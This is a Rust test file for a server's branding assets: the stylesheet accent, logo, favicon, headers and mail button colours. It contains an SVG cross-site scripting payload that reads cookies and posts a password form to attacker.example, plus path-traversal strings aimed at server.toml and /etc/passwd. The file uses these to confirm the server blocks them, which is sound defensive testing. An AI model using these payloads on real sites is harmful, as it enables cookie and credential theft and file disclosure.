//! The accent and the logo of `[branding]`, as a browser gets them: which file, with which headers, and
//! what a hostile picture could do.

use hallpass_server::accounts::{NewAccount, Role};
use hallpass_testing::{Answer, TestServer};

use crate::accounts::{PASSWORD, log_in};

const STYLESHEET: &str = include_str!("../../assets/style.css");
const MARK: &str = include_str!("../../assets/mark.svg");
const FOR_GOOD: &str = "public, max-age=31536000, immutable";
const OPENED_ALONE: &str =
    "default-src 'none'; style-src 'unsafe-inline'; sandbox; frame-ancestors 'none'";

/// Whatever a picture could try when somebody opens it.
const HOSTILE: &str = concat!(
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 200 40\" onload=\"alert(1)\">",
    "<script>alert(document.cookie)</script><foreignObject width=\"200\" height=\"40\">",
    "<body xmlns=\"http://www.w3.org/1999/xhtml\"><form action=\"https://attacker.example\">",
    "<input name=\"password\"/></form></body></foreignObject></svg>"
);

/// A PNG of one pixel.
const PIXEL: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\
    \0\0\0\x0bIDATx\x9cc\xf8\x0f\x04\0\t\xfb\x03\xfd\xfb^k+\0\0\0\0IEND\xaeB`\x82";

/// A server whose logo was a file with this content. It was read: the file is gone.
async fn with_logo(content: &[u8], more: &str) -> TestServer {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("logo.of-any-name");
    std::fs::write(&file, content).unwrap();
    let logo = format!("[branding]\nlogo = '{}'\n{more}", file.display());
    TestServer::production(&logo).await
}

async fn bytes(server: &TestServer, path: &str) -> Vec<u8> {
    let answer = server.http().get(server.url(path)).send().await.unwrap();
    answer.bytes().await.unwrap().into()
}

/// What stands between two texts of a page.
fn between<'a>(html: &'a str, start: &str, end: &str) -> &'a str {
    let (_, rest) = html
        .split_once(start)
        .unwrap_or_else(|| panic!("{start}: {html}"));
    rest.split_once(end).unwrap().0
}

/// The paths of a page's stylesheet, of its mark and of its icon.
fn files(page: &Answer) -> [String; 3] {
    let html = page.body.as_str();
    let mark = between(html, "<img class=\"mark", ">");
    let icon = between(html, "<link rel=\"icon\"", ">");
    [
        between(html, "<link rel=\"stylesheet\" href=\"", "\"").to_owned(),
        between(mark, " src=\"", "\"").to_owned(),
        between(icon, " href=\"", "\"").to_owned(),
    ]
}

#[tokio::test]
async fn without_branding_every_file_is_the_built_in_one() {
    let server = TestServer::production("").await;
    let page = server.get("/login").await;
    let [style, mark, icon] = files(&page);
    assert_eq!(server.get(&style).await.body, STYLESHEET);
    assert_eq!(server.get(&mark).await.body, MARK);
    assert_eq!(icon, mark);
    assert_eq!(server.get("/favicon.ico").await.body, MARK);
    assert!(page.body.contains("<img class=\"mark\" src="));
}

#[tokio::test]
async fn an_accent_comes_with_the_stylesheet_and_in_no_other_way() {
    let server = TestServer::production("branding.accent = \"#ffe100\"").await;
    let page = server.get("/login").await;
    let [style, mark, _] = files(&page);
    let answer = server.get(&style).await;
    let colors = answer.body.strip_prefix(STYLESHEET).unwrap();
    for rule in [
        "--accent: #ffe100;",
        "--on-accent: #16191d;",
        "prefers-color-scheme: dark",
    ] {
        assert!(colors.contains(rule), "{colors}");
    }
    assert_eq!(answer.header("cache-control"), FOR_GOOD);
    assert_eq!(answer.header("content-type"), "text/css; charset=utf-8");
    // The mark has the same colors, under a name of its own content.
    let mark = server.get(&mark).await;
    assert!(mark.body.contains(colors), "{}", mark.body);
    assert_eq!(mark.header("content-security-policy"), OPENED_ALONE);
    assert!(!page.body.contains("ffe100") && !page.body.contains("style="));
    let policy = page.header("content-security-policy");
    assert!(
        policy.contains("style-src 'self'; img-src 'self';"),
        "{policy}"
    );

    // A server with another accent has files of other names.
    let other = TestServer::production("branding.accent = \"#101010\"").await;
    let others = files(&other.get("/login").await);
    assert_ne!(others, files(&page));
    // A page of the first that asks the second gets a style, which nobody keeps under that name.
    let lent = other.get(&style).await;
    assert_eq!(
        (lent.status, lent.header("cache-control")),
        (200, "no-store")
    );
    assert_eq!(lent.body, other.get(&others[0]).await.body);
}

#[tokio::test]
async fn a_logo_is_on_every_card_and_is_the_favicon() {
    let server = with_logo(PIXEL, "accent = \"#b3261e\"").await;
    let person = server.person_with_account("ada", PASSWORD).await;
    log_in(&person, "ada", PASSWORD).await;
    let paths = [
        "/login",
        "/login/recover",
        "/device",
        "/account",
        "/account/security",
    ];
    for path in paths {
        let page = person.open(path).await;
        let [_, logo, icon] = files(&page);
        assert!(
            logo.starts_with("/static/logo-") && logo.split('.').next_back() == Some("png"),
            "{path}: {logo}"
        );
        assert_eq!(icon, logo);
        let tag = between(&page.body, "<img class=\"mark logo\"", ">");
        assert!(tag.contains("height=\"40\" alt=\"\""), "{path}: {tag}");
        assert!(
            page.body.contains("<link rel=\"icon\" type=\"image/png\""),
            "{path}"
        );
    }
    let [_, logo, _] = files(&server.get("/login").await);
    for (path, cache) in [
        (logo.as_str(), FOR_GOOD),
        ("/favicon.ico", "public, max-age=3600"),
    ] {
        assert_eq!(bytes(&server, path).await, PIXEL, "{path}");
        let answer = server.get(path).await;
        assert_eq!(answer.header("content-type"), "image/png");
        assert_eq!(answer.header("x-content-type-options"), "nosniff");
        assert_eq!(answer.header("cache-control"), cache);
        assert_eq!(answer.header("content-security-policy"), OPENED_ALONE);
    }
}

#[tokio::test]
async fn a_hostile_picture_runs_nothing_and_has_no_origin() {
    let server = with_logo(HOSTILE.as_bytes(), "").await;
    let page = server.get("/login").await;
    // It is a picture, by its address: nothing of it stands in the page.
    assert!(!page.body.contains("alert(") && !page.body.contains("foreignObject"));
    let [_, logo, _] = files(&page);
    for path in [logo.as_str(), "/favicon.ico"] {
        let answer = server.get(path).await;
        assert_eq!(answer.body, HOSTILE);
        assert_eq!(answer.header("content-type"), "image/svg+xml");
        assert_eq!(answer.header("x-content-type-options"), "nosniff");
        assert_eq!(answer.header("content-security-policy"), OPENED_ALONE);
    }
}

#[tokio::test]
async fn no_address_leads_to_another_file() {
    let server = with_logo(PIXEL, "name = \"Example\"").await;
    for path in [
        "/static/logo.of-any-name",
        "/static/server.toml",
        "/static/keyring.toml",
        "/static/..%2fserver.toml",
        "/static/%2e%2e/server.toml",
        "/static//etc/passwd",
        "/static/logo-../server.toml",
        "/static/logo-0123456789abcdef.toml",
        "/static/logo-0123456789abcdef.png/../server.toml",
        "/static/server-0123456789abcdef.toml",
        "/static/",
    ] {
        let answer = server.get(path).await;
        assert_eq!(answer.status, 404, "{path}");
        assert!(!answer.body.contains("keyring"), "{path}");
    }
}

/// WCAG 2.2, 1.4.3: a mail is read on a ground that nobody knows, so its button brings its own.
#[cfg(unix)]
#[tokio::test]
async fn the_button_of_a_mail_has_the_accent_and_a_label_that_is_read_on_it() {
    for (accent, fill, label) in [
        ("", "#2457d6", "#ffffff"),
        ("accent = \"#ffe100\"\n", "#ffe100", "#16191d"),
        ("accent = \"#101010\"\n", "#101010", "#ffffff"),
    ] {
        let (folder, toml) = crate::languages::mailbox();
        let toml = toml.replace("[branding]\n", &format!("[branding]\n{accent}"));
        let server = TestServer::production(&toml).await;
        let new = NewAccount {
            username: "ada".to_owned(),
            email: Some("ada@example.com".to_owned()),
            display_name: None,
            role: Role::User,
            locale: None,
        };
        server.accounts().invite(new).await.unwrap();
        let mail = crate::languages::next_mail(&folder).await;
        let colors = format!("background:{fill};color:{label};");
        assert!(mail.contains(&colors), "{colors}: {mail}");
    }
}
